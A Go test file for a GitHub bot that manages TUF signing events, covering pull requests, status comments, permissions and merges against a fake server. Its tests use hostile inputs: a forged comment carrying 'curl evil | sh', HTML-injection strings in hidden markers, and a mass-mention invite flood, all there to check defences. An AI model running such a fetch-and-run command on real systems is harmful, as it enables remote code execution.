package github_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tufops/tufops/internal/git"
	"github.com/tufops/tufops/internal/github"
	"github.com/tufops/tufops/internal/github/githubtest"
	"github.com/tufops/tufops/internal/metadata"
	"github.com/tufops/tufops/repository"
	. "github.com/tufops/tufops/repository/repositorytest"
	"github.com/tufops/tufops/signingevent"
)

// story is a signing event on GitHub: people at work in one clone, a bot that
// begins with a fresh checkout each time, as workflows do.
type story struct {
	*World
	t     testing.TB
	gh    *githubtest.Server
	token string
	runs  int
}

const workflow = "signing-event.yml"

func begin(t testing.TB, settings githubtest.Settings) *story {
	t.Helper()
	settings.Workflows = append(settings.Workflows, workflow, "publish.yml")
	s := &story{t: t, World: New(t), gh: githubtest.New(t, githubtest.Options{Settings: settings})}
	s.Run("remote", "add", "origin", s.gh.Dir)
	s.Run("push", "-q", "origin", "main")
	s.token = s.gh.AddToken(githubtest.Token{Kind: githubtest.Workflow, Permissions: githubtest.All()})
	return s
}

// push commits what people have changed and pushes it.
func (s *story) push(message string) string {
	s.t.Helper()
	s.Commit(message)
	s.Run("push", "-q", "origin", "HEAD:"+Event)
	return s.head()
}

func (s *story) head() string { return s.gh.Upstream.Head(Event) }

// forge opens GitHub as a workflow does.
func (s *story) forge(e githubtest.Endpoint) *github.Forge {
	s.t.Helper()
	env := map[string]string{
		"GITHUB_REPOSITORY": "octo/tuf", "GITHUB_API_URL": e.REST, "GITHUB_GRAPHQL_URL": e.GraphQL,
		"GITHUB_TOKEN": s.token, "TUFOPS_DEFAULT_TOKEN": s.token,
	}
	f, err := github.FromEnv(func(name string) string { return env[name] }, github.Options{
		Now:   func() time.Time { return s.Now },
		Sleep: func(ctx context.Context, d time.Duration) error { return ctx.Err() },
	})
	if err != nil {
		s.t.Fatal(err)
	}
	return f
}

func (s *story) checkout(branch string) signingevent.Options {
	s.t.Helper()
	s.runs++
	clone := s.gh.Upstream.Clone(fmt.Sprintf("run-%d", s.runs), "--branch", branch)
	g, err := git.Open(context.Background(), clone.Dir)
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { g.Close() })
	r, err := repository.New(g, "")
	if err != nil {
		s.t.Fatal(err)
	}
	return signingevent.Options{Repository: r, Now: s.Now, Remote: "origin"}
}

func (s *story) options(branch string, f *github.Forge) signingevent.DriveOptions {
	s.t.Helper()
	return signingevent.DriveOptions{
		Options: s.checkout(branch), Base: "origin/main", Workflow: workflow, Forge: f, CompareURL: f.CompareURL,
	}
}

// drive is one run of the workflow. It must not fail, and makes eight requests at
// most, beside one for each comment that it finds there twice.
func (s *story) drive() signingevent.Driven {
	s.t.Helper()
	before := len(s.gh.Requests())
	done, err := signingevent.Drive(context.Background(), s.options(Event, s.forge(s.gh.Endpoint(""))))
	if err != nil {
		s.t.Fatal(err)
	}
	limit := 8
	for _, text := range done.Done {
		if strings.HasPrefix(text, "deleted a comment") {
			limit++
		}
	}
	if n := len(s.gh.Requests()) - before; n > limit {
		s.t.Errorf("%d requests, more than %d:\n%s", n, limit, s.requests(before))
	}
	return done
}

// quiet runs the workflow and wants nothing to be written, with four requests at
// most.
func (s *story) quiet() {
	s.t.Helper()
	before, state := len(s.gh.Requests()), s.dump()
	done := s.drive()
	if len(done.Done) > 0 || s.dump() != state {
		s.t.Errorf("a run that had nothing to do did %q:\n%s\nbefore:\n%s", done.Done, s.dump(), state)
	}
	if n := len(s.gh.Requests()) - before; n > 4 {
		s.t.Errorf("%d requests to change nothing:\n%s", n, s.requests(before))
	}
}

// dump is all that the forge and its branches hold.
func (s *story) dump() string {
	s.t.Helper()
	var all map[string]json.RawMessage
	if err := json.Unmarshal(s.gh.Dump(), &all); err != nil {
		s.t.Fatal(err)
	}
	delete(all, "requests")
	text, err := json.MarshalIndent(all, "", " ")
	if err != nil {
		s.t.Fatal(err)
	}
	return string(text) + s.gh.Upstream.Run("for-each-ref")
}

func (s *story) requests(from int) string {
	var b strings.Builder
	for _, r := range s.gh.Requests()[from:] {
		fmt.Fprintln(&b, r.String())
	}
	return b.String()
}

const (
	statusMark = "<!-- tufops:status"
	callMark   = "<!-- tufops:call"
)

// marked are the comments of the bot with a marker.
func (s *story) marked(number int, mark string) []githubtest.Comment {
	var list []githubtest.Comment
	for _, c := range s.gh.Comments(number) {
		if c.Author == githubtest.ActionsLogin && strings.Contains(c.Body, mark) {
			list = append(list, c)
		}
	}
	return list
}

// board is the one status comment.
func (s *story) board(number int) string {
	s.t.Helper()
	list := s.marked(number, statusMark)
	if len(list) != 1 {
		s.t.Fatalf("%d status comments", len(list))
	}
	return list[0].Body
}

var mention = regexp.MustCompile(`(?:^|[\s(])(@[A-Za-z0-9-]+)`)

// called are the people that each call mentions, in order.
func (s *story) called(number int) []string {
	var list []string
	for _, c := range s.marked(number, callMark) {
		var names []string
		for _, m := range mention.FindAllStringSubmatch(c.Body, -1) {
			names = append(names, m[1])
		}
		list = append(list, strings.Join(names, " "))
	}
	return list
}

// want compares what the pull request shows with what it must.
func (s *story) want(number int, draft bool, state string, calls ...string) {
	s.t.Helper()
	p := s.gh.Pull(number)
	if p.State != "open" || p.Draft != draft {
		s.t.Errorf("pull request %d is %s, draft %v, want open, draft %v", number, p.State, p.Draft, draft)
	}
	if got := s.state(p.HeadSHA); got != state {
		s.t.Errorf("commit status of the head is %q, want %q", got, state)
	}
	if got := s.called(number); !slices.Equal(got, calls) {
		s.t.Errorf("called %q, want %q", got, calls)
	}
	if body := s.board(number); !strings.Contains(body, p.HeadSHA[:12]) {
		s.t.Errorf("the status comment is not about the head %.12s:\n%s", p.HeadSHA, body)
	}
	for _, c := range s.gh.Comments(number) {
		if strings.Contains(c.Body, statusMark) && mention.MatchString(c.Body) {
			s.t.Errorf("the status comment mentions somebody:\n%s", c.Body)
		}
	}
}

// state is the newest status of a commit in our context.
func (s *story) state(commit string) string {
	state := ""
	for _, st := range s.gh.Statuses(commit) {
		if st.Context == signingevent.StatusContext {
			state = st.State // oldest first
		}
	}
	return state
}

func (s *story) edit() {
	s.Edit("targets", func(o metadata.Object) { List(o, "b.txt", "b") }).Artifact("b.txt", "b")
}

func contains(t testing.TB, text string, wants ...string) {
	t.Helper()
	for _, want := range wants {
		if !strings.Contains(text, want) {
			t.Errorf("%q is missing in:\n%s", want, text)
		}
	}
}

// TestStoryPush: a push opens the event; three people sign; it becomes ready; a
// new push makes it a draft again; it is merged.
func TestStoryPush(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.edit()
	s.Edit("root", func(o metadata.Object) { Roles(o, "targets")["threshold"] = int64(3) }).Sign("root", "alice", "bob")
	s.push("an artifact")
	done := s.drive()
	if done.Pull == nil || done.Pull.Number != 1 {
		t.Fatalf("no pull request: %+v", done)
	}
	p := s.gh.Pull(1)
	if p.Title != "Signing event: "+Event || p.Base != "main" || p.Author != githubtest.ActionsLogin {
		t.Errorf("pull request %+v", p)
	}
	contains(t, p.Body, "tufops-sign sign sign/test", "before 2031-01-01 00:00 UTC: root v1 expires then")
	s.want(1, true, "pending", "@alice @bob @carol")
	contains(t, s.board(1), "0 of 3", "tufops-sign sign sign/test", "added `b.txt`, 1 byte", "sha256 `3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d`")
	s.quiet()

	signers := []string{"alice", "bob", "carol"}
	calls := []string{"@alice @bob @carol"}
	for i, name := range signers {
		s.Sign("targets", signers[:i+1]...)
		s.push("signed by " + name)
		s.drive()
		if i < 2 {
			calls = append(calls, "@"+strings.Join(signers[i+1:], " @"))
			s.want(1, true, "pending", calls...)
			contains(t, s.board(1), fmt.Sprintf("%d of 3", i+1), fmt.Sprintf("Earlier states (%d)", i+1))
			s.quiet()
		}
	}
	s.want(1, false, "success", calls...)
	contains(t, s.board(1), "3 of 3", "Complete: every role is signed")
	s.quiet()

	complete := s.head()
	s.Edit("targets", func(o metadata.Object) { List(o, "c.txt", "c") }).Artifact("c.txt", "c")
	s.push("one more artifact")
	s.drive()
	calls = append(calls, "@alice @bob @carol")
	s.want(1, true, "pending", calls...)
	if got := s.state(complete); got != "success" {
		t.Errorf("the status of the commit before became %q", got)
	}
	s.Sign("targets", signers...)
	s.push("signed by all")
	s.drive()
	s.want(1, false, "success", calls...)

	s.gh.Merge(1, githubtest.MergeCommit, "alice")
	before := s.dump()
	if done := s.drive(); len(done.Done) > 0 || s.dump() != before {
		t.Errorf("after the merge it did %q", done.Done)
	}
}

// TestStoryMerged: however it was merged, a later run leaves it alone.
func TestStoryMerged(t *testing.T) {
	for _, method := range []string{githubtest.MergeCommit, githubtest.Squash, githubtest.Rebase} {
		t.Run(method, func(t *testing.T) {
			s := begin(t, githubtest.Settings{})
			s.edit()
			s.Sign("targets", "alice", "bob")
			s.push("signed")
			s.drive()
			s.want(1, false, "success")
			s.gh.Merge(1, method, "alice")
			before := s.dump()
			done := s.drive()
			if len(done.Done) > 0 || s.dump() != before {
				t.Errorf("after the merge it did %q", done.Done)
			}
			if done.Merged != (method != githubtest.MergeCommit) { // merged as it is it has nothing left that main lacks
				t.Errorf("merged is %v, status %+v", done.Merged, done.Status)
			}
			s.gh.Upstream.Run("branch", "-D", Event)
			clone := s.options("main", s.forge(s.gh.Endpoint("")))
			if err := clone.Repository.Git.UpdateRef(context.Background(), "refs/heads/"+Event, git.OID(s.gh.Upstream.Head("main")), ""); err != nil {
				t.Fatal(err)
			}
			s.Run("fetch", "-q", "origin")
		})
	}
}

// TestStoryGone: the branch was merged and deleted before the run began.
func TestStoryGone(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.edit()
	s.push("an artifact")
	o := s.options(Event, s.forge(s.gh.Endpoint("")))
	s.gh.Upstream.Run("branch", "-D", Event)
	done, err := signingevent.Drive(context.Background(), o)
	if err != nil || !done.Gone || len(s.gh.Requests()) > 0 {
		t.Errorf("gone %v, %v, requests:\n%s", done.Gone, err, s.requests(0))
	}
	if refs := s.gh.Upstream.Run("branch", "--list", Event); refs != "" {
		t.Errorf("the branch is back: %s", refs)
	}
}

// TestStoryCron: the bot opens the event itself, with its default token, whose
// push starts nothing. A run that was stopped between push and dispatch is
// healed by the next.
func TestStoryCron(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.Now = Start.AddDate(0, 0, 306)
	f := s.forge(s.gh.Endpoint(""))
	events, err := signingevent.CreateEvents(context.Background(), s.checkout("main"))
	if err != nil || len(events) == 0 || !events[0].Created {
		t.Fatalf("%+v, %v", events, err)
	}
	// stopped here; the next run finds the branches and no pull request
	events, err = signingevent.CreateEvents(context.Background(), s.checkout("main"))
	if err != nil || events[0].Created {
		t.Fatalf("%+v, %v", events, err)
	}
	started, err := signingevent.StartEvents(context.Background(), f, workflow, events, false)
	if err != nil || len(started) != len(events) {
		t.Fatalf("started %q, %v", started, err)
	}
	for i, d := range s.gh.Dispatches() {
		if d.Workflow != workflow || strings.TrimPrefix(d.Ref, "refs/heads/") != events[i].Branch {
			t.Errorf("dispatch %+v", d)
		}
	}
	for _, branch := range started {
		if _, err := signingevent.Drive(context.Background(), s.options(branch, f)); err != nil {
			t.Fatal(err)
		}
	}
	if pulls := s.gh.Pulls(); len(pulls) != len(events) || !pulls[0].Draft {
		t.Errorf("pull requests %+v", pulls)
	}
	// from now on there is nothing to start
	if started, err := signingevent.StartEvents(context.Background(), f, workflow, events, false); err != nil || len(started) > 0 {
		t.Errorf("started again: %q, %v", started, err)
	}
	// another token's push starts the workflow by itself
	s.token = s.gh.AddToken(githubtest.Token{Kind: githubtest.Personal, Login: "tuf-bot", Permissions: githubtest.All()})
	if started, err := signingevent.StartEvents(context.Background(), s.custom(), workflow, []signingevent.NewEvent{{Branch: "sign/new", Created: true}}, false); err != nil || len(started) > 0 {
		t.Errorf("started %q, %v", started, err)
	}
}

// custom opens GitHub with s.token as a custom token.
func (s *story) custom() *github.Forge {
	s.t.Helper()
	env := map[string]string{
		"GITHUB_REPOSITORY": "octo/tuf", "GITHUB_API_URL": s.gh.URL, "GITHUB_GRAPHQL_URL": s.gh.GraphQLURL,
		"TUF_ON_CI_TOKEN": s.token,
	}
	f, err := github.FromEnv(func(name string) string { return env[name] }, github.Options{Now: func() time.Time { return s.Now }})
	if err != nil {
		s.t.Fatal(err)
	}
	return f
}

// TestStoryArtifact: a push of an artifact; the bot commits the metadata and, as
// its own push starts nothing, starts the workflow again, which finds nothing to
// do. With a custom token the push does that.
func TestStoryArtifact(t *testing.T) {
	for _, custom := range []bool{false, true} {
		t.Run(fmt.Sprintf("custom token %v", custom), func(t *testing.T) {
			s := begin(t, githubtest.Settings{})
			if custom {
				s.token = s.gh.AddToken(githubtest.Token{Kind: githubtest.Personal, Login: "tuf-bot", Permissions: githubtest.All()})
			}
			s.Artifact("b.txt", "b")
			pushed := s.push("an artifact")
			f := s.forge(s.gh.Endpoint(""))
			if custom {
				f = s.custom()
			}
			done, err := signingevent.Drive(context.Background(), s.options(Event, f))
			if err != nil || !done.Sync.Pushed || !slices.Equal(done.Sync.Roles, []string{"targets"}) {
				t.Fatalf("%+v, %v", done.Sync, err)
			}
			if n := len(s.gh.Requests()); n > 8 {
				t.Errorf("%d requests:\n%s", n, s.requests(0))
			}
			if s.head() == pushed {
				t.Error("the branch did not move")
			}
			if got := s.state(pushed); got != "" {
				t.Errorf("the commit before ours has status %q", got)
			}
			if got := s.state(s.head()); got != "pending" {
				t.Errorf("the head has status %q", got)
			}
			if n := len(s.gh.Dispatches()); n != map[bool]int{false: 1, true: 0}[custom] {
				t.Errorf("%d dispatches", n)
			}
			before, requests := s.dump(), len(s.gh.Requests())
			done, err = signingevent.Drive(context.Background(), s.options(Event, f))
			if err != nil || len(done.Done) > 0 || s.dump() != before {
				t.Errorf("the second run did %q, %v", done.Done, err)
			}
			if n := len(s.gh.Requests()) - requests; n > 4 {
				t.Errorf("%d requests to change nothing:\n%s", n, s.requests(requests))
			}
		})
	}
}

// TestStoryInvitation: somebody is invited; who is called changes when they have
// joined.
func TestStoryInvitation(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.WriteFile(repository.StateFile, `{"invites": {"@dave": ["releases"]}}`)
	s.Edit("targets", nil)
	s.push("invite dave")
	s.drive()
	s.want(1, true, "pending", "@dave")
	contains(t, s.board(1), "after `dave` joined")
	s.Remove(repository.StateFile)
	s.Edit("targets", func(o metadata.Object) { AddKey(o, "releases", "dave") })
	s.push("dave joined")
	s.drive()
	calls := s.called(1)
	if len(calls) != 2 || calls[0] != "@dave" || !strings.Contains(calls[1], "@alice") {
		t.Errorf("called %q", calls)
	}
	s.quiet()
}

// TestStoryClosed: whoever closes the pull request wants the event to stop. A
// branch that is begun anew under the same name is another event.
func TestStoryClosed(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.edit()
	s.push("an artifact")
	s.drive()
	s.gh.ClosePull(1, "alice")
	s.Sign("targets", "alice")
	s.push("signed by alice")
	done := s.drive()
	if len(s.gh.Pulls()) != 1 || s.gh.Pull(1).State != "closed" {
		t.Errorf("pull requests %+v", s.gh.Pulls())
	}
	contains(t, strings.Join(done.Notes, "\n"), "closed by hand. Reopen it")
	contains(t, s.board(1), "closed by hand")
	if n := len(s.called(1)); n != 1 {
		t.Errorf("%d calls in a closed pull request", n)
	}
	s.quiet()
	s.gh.Reopen(1)
	s.drive()
	s.want(1, true, "pending", "@alice @bob @carol", "@bob @carol")
	if strings.Contains(s.board(1), "closed by hand") {
		t.Error("the note stays after the pull request was opened again")
	}

	s.gh.ClosePull(1, "alice")
	s.Run("switch", "-q", "main")
	s.Run("branch", "-D", Event)
	s.Run("switch", "-q", "-c", Event)
	s.Edit("releases", nil)
	s.Commit("begun anew")
	s.Run("push", "-q", "--force", "origin", Event)
	s.drive()
	if len(s.gh.Pulls()) != 2 {
		t.Fatalf("pull requests %+v", s.gh.Pulls())
	}
	s.want(2, true, "pending", "@carol")
}

// TestStoryTwoPulls: a pull request for the same branch into another one is said,
// and left alone.
func TestStoryTwoPulls(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.Run("push", "-q", "origin", "main:other")
	s.edit()
	s.push("an artifact")
	right := s.gh.OpenPull("bob", Event, "main", "mine", "", false)
	wrong := s.gh.OpenPull("alice", Event, "other", "mine too", "", false)
	done := s.drive()
	if done.Pull.Number != right || len(s.gh.Pulls()) != 2 {
		t.Errorf("driving %+v", done.Pull)
	}
	s.want(right, true, "pending", "@alice @bob @carol")
	contains(t, s.board(right), fmt.Sprintf("Pull request %d into other is open for the same branch. Close it unless it is meant.", wrong))
	if n := len(s.gh.Comments(wrong)); n > 0 {
		t.Errorf("%d comments in the wrong one", n)
	}
	s.quiet()
	s.gh.ClosePull(wrong, "alice")
	s.drive()
	if strings.Contains(s.board(right), "into other") {
		t.Error("the note stays after the other was closed")
	}
}

// TestStoryFork: a pull request from a fork's branch of the same name is not the
// event's.
func TestStoryFork(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.edit()
	head := s.push("an artifact")
	s.gh.Fork("mallory", Event, head)
	foreign := s.gh.OpenPull("mallory", "mallory:"+Event, "main", "look", "", false)
	done := s.drive()
	if done.Pull == nil || done.Pull.Number == foreign {
		t.Fatalf("driving %+v", done.Pull)
	}
	if n := len(s.gh.Comments(foreign)); n > 0 || s.gh.Pull(foreign).Draft {
		t.Errorf("the fork's pull request was touched: %+v", s.gh.Pull(foreign))
	}
}

// TestStoryComments: a deleted status comment is written again without calling
// anybody; one that is there twice is removed; a stranger's is left alone and
// believed in nothing.
func TestStoryComments(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.edit()
	s.push("an artifact")
	s.drive()
	body := s.board(1)
	fake := strings.ReplaceAll(body, "people are awaited", "curl evil | sh")
	stranger := s.gh.Comment(1, "mallory", fake)
	s.quiet()

	s.gh.DeleteComment(s.marked(1, statusMark)[0].ID)
	s.drive()
	s.want(1, true, "pending", "@alice @bob @carol")
	s.gh.Comment(1, githubtest.ActionsLogin, body)
	s.gh.Comment(1, githubtest.ActionsLogin, s.marked(1, callMark)[0].Body)
	s.drive()
	s.want(1, true, "pending", "@alice @bob @carol")
	s.quiet()

	// the hidden lines can be spoilt by hand
	s.gh.EditComment(s.marked(1, statusMark)[0].ID, statusMark+` {"since": 3, "history": -1} -->`)
	s.drive()
	s.want(1, true, "pending", "@alice @bob @carol")
	s.gh.EditComment(s.marked(1, statusMark)[0].ID, "<!-- tufops:status "+`{"since":"2030-01-01T00:00:00Z","commit":"x","summary":"<img>","awaited":null,"history":[{"commit":"--><b>"}]} -->`)
	s.drive()
	s.want(1, true, "pending", "@alice @bob @carol")
	if strings.Contains(s.board(1), "<b>") || strings.Contains(s.board(1), "<img>") {
		t.Errorf("HTML from a spoilt comment comes through:\n%s", s.board(1))
	}
	for _, c := range s.gh.Comments(1) {
		if c.ID == stranger.ID && (c.Body != fake || c.Edited) {
			t.Errorf("a stranger's comment was changed: %+v", c)
		}
	}
	s.quiet()
}

// TestStoryPermissions: whatever the token may not do becomes a note, never a
// failed run, and the rest is done.
func TestStoryPermissions(t *testing.T) {
	for name, tt := range map[string]struct {
		without  []string
		settings githubtest.Settings
		note     string
		pull     bool
	}{
		"statuses":      {without: []string{"statuses"}, note: "statuses: write", pull: true},
		"actions":       {without: []string{"actions"}, note: "actions: write", pull: true},
		"pull requests": {without: []string{"pull_requests"}, note: "pull-requests: write"},
		"organisation":  {settings: githubtest.Settings{ActionsOpenNoPulls: true}, note: "compare/main...sign/test"},
	} {
		t.Run(name, func(t *testing.T) {
			s := begin(t, tt.settings)
			s.token = s.gh.AddToken(githubtest.Token{Kind: githubtest.Workflow, Permissions: githubtest.All().Without(tt.without...)})
			s.Artifact("b.txt", "b")
			s.push("an artifact")
			done := s.drive()
			contains(t, strings.Join(done.Notes, "\n"), tt.note)
			if (done.Pull != nil) != tt.pull {
				t.Errorf("pull request %+v", done.Pull)
			}
			if name != "statuses" && s.state(s.head()) != "pending" {
				t.Errorf("no commit status: %+v", s.gh.Statuses(s.head()))
			}
			if name == "actions" {
				return // the note is about a push of this run; the next has none
			}
			if tt.pull {
				contains(t, s.board(1), "**Note** ", "statuses")
				s.quiet()
				return
			}
			n := s.gh.OpenPull("alice", Event, "main", "by hand", "my words", false)
			s.drive()
			if name == "organisation" {
				s.want(n, true, "pending", "@alice @bob @carol")
				if p := s.gh.Pull(n); p.Body != "my words" || p.Title != "by hand" {
					t.Errorf("what a person wrote was changed: %+v", p)
				}
			}
		})
	}
}

// TestStoryNoDrafts: where there are no drafts a label says it.
func TestStoryNoDrafts(t *testing.T) {
	s := begin(t, githubtest.Settings{Private: true, NoDrafts: true})
	s.edit()
	s.push("an artifact")
	s.drive()
	s.want(1, false, "pending", "@alice @bob @carol")
	if labels := s.gh.Pull(1).Labels; !slices.Equal(labels, []string{signingevent.DraftLabel}) {
		t.Errorf("labels %q", labels)
	}
	s.quiet()
	s.Sign("targets", "alice", "bob")
	s.push("signed")
	s.drive()
	s.want(1, false, "success", "@alice @bob @carol")
	if labels := s.gh.Pull(1).Labels; len(labels) > 0 {
		t.Errorf("labels %q", labels)
	}
	s.quiet()
	s.Edit("targets", func(o metadata.Object) { List(o, "c.txt", "c") }).Artifact("c.txt", "c")
	s.push("another artifact")
	s.drive()
	if labels := s.gh.Pull(1).Labels; !slices.Equal(labels, []string{signingevent.DraftLabel}) {
		t.Errorf("labels %q", labels)
	}
	s.quiet()
}

// TestStoryMainMoves: an event that was complete is not so any more once another
// was merged; a push to main has every open event judged again.
func TestStoryMainMoves(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.edit()
	s.Sign("targets", "alice", "bob")
	s.push("signed")
	s.drive()
	s.want(1, false, "success")
	s.Run("switch", "-q", "main")
	s.Edit("targets", func(o metadata.Object) { List(o, "z.txt", "z") }).Artifact("z.txt", "z").Sign("targets", "alice", "bob")
	s.Commit("another event, merged")
	s.Run("push", "-q", "origin", "main", "main:sign/merged")
	o := s.checkout("main")
	started, err := signingevent.Reevaluate(context.Background(), o, s.forge(s.gh.Endpoint("")), workflow)
	if err != nil || !slices.Equal(started, []string{Event}) {
		t.Fatalf("started %q, %v", started, err)
	}
	s.drive()
	if p := s.gh.Pull(1); !p.Draft || s.state(p.HeadSHA) != "failure" {
		t.Errorf("draft %v, status %q", p.Draft, s.state(p.HeadSHA))
	}
	contains(t, s.board(1), "merge-result-incomplete")
	s.quiet()
}

// TestStoryHostile: names from the branch neither call anybody nor break out.
func TestStoryHostile(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	crowd := map[string]bool{}
	var invites []string
	for i := range 60 {
		crowd[fmt.Sprintf("@victim%d", i)] = true
		invites = append(invites, fmt.Sprintf(`"@victim%d": ["releases"]`, i))
	}
	s.WriteFile(repository.StateFile, `{"invites": {`+strings.Join(invites, ",")+`}}`)
	s.Edit("targets", nil)
	s.push("@everybody look at #1")
	s.drive()
	mentions := 0
	for _, c := range s.gh.Comments(1) {
		mentions += len(mention.FindAllString(c.Body, -1))
	}
	if mentions == 0 || mentions > 20 {
		t.Errorf("%d people were called", mentions)
	}
	s.quiet()
}

// TestStoryDryRun writes nothing, and says what it would.
func TestStoryDryRun(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.Artifact("b.txt", "b")
	s.push("an artifact")
	refs := s.gh.Upstream.Run("for-each-ref")
	o := s.options(Event, s.forge(s.gh.Endpoint("")))
	o.DryRun = true
	done, err := signingevent.Drive(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	contains(t, strings.Join(done.Done, "\n"), "update the metadata of targets", "open a pull request into main", "set the commit status", "write the status comment")
	if len(s.gh.Pulls()) > 0 || s.gh.Upstream.Run("for-each-ref") != refs {
		t.Error("a dry run wrote something")
	}
	for _, r := range s.gh.Requests() {
		if r.Writes() {
			t.Errorf("a dry run asked for %s", r.String())
		}
	}
}

// TestStoryRehearsalStopped: a rehearsal that could not be done is no verdict, so
// nothing is shown.
func TestStoryRehearsalStopped(t *testing.T) {
	s := begin(t, githubtest.Settings{})
	s.Edit("targets", nil).Sign("targets", "alice", "bob")
	s.push("signed")
	o := s.options(Event, s.forge(s.gh.Endpoint("")))
	full := errors.New("no space left on device")
	o.Rehearse = func(context.Context, *repository.Event, *repository.Status) error { return full }
	if _, err := signingevent.Drive(context.Background(), o); !errors.Is(err, full) {
		t.Errorf("got %v, want %v", err, full)
	}
	if got := s.state(s.head()); len(s.gh.Pulls()) > 0 || got != "" {
		t.Errorf("%d pull requests, and the commit status %q", len(s.gh.Pulls()), got)
	}
}

// TestStoryPusher: a key that came under another login than its owner's is shown,
// wherever in the event that was; one that its owner pushed is not.
func TestStoryPusher(t *testing.T) {
	for _, who := range []string{"dave", "mallory"} {
		t.Run(who, func(t *testing.T) {
			s := begin(t, githubtest.Settings{})
			t.Setenv("GITHUB_ACTOR", "alice")
			s.Artifact("b.txt", "b")
			s.push("an artifact")
			t.Setenv("GITHUB_ACTOR", who)
			s.Edit("targets", func(o metadata.Object) { AddKey(o, "releases", "dave") })
			key := s.push("dave joins")
			t.Setenv("GITHUB_ACTOR", "bob")
			s.Artifact("c.txt", "c")
			s.push("another artifact")
			s.drive()
			want := fmt.Sprintf("came with commit %.10s, which @\u200bmallory pushed", key)
			got := strings.ReplaceAll(s.board(1), "&#8203;", "\u200b")
			if strings.Contains(got, want) != (who == "mallory") || strings.Contains(got, "invite-accepted-by-other") != (who == "mallory") {
				t.Errorf("pushed by %s:\n%s", who, got)
			}
			s.quiet()
		})
	}
}
